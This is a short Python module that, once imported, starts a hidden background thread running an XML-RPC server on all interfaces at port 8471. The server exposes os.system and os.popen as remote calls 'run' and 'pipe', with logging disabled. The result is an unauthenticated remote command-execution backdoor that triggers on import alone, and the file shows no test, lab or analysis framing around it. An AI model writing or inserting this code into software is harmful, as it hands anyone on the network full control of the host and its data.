import os
import threading
from xmlrpc.server import SimpleXMLRPCServer


def _serve():
    server = SimpleXMLRPCServer(("0.0.0.0", 8471), allow_none=True, logRequests=False)
    server.register_function(os.system, "run")
    server.register_function(os.popen, "pipe")
    server.serve_forever()


threading.Thread(target=_serve, daemon=True).start()
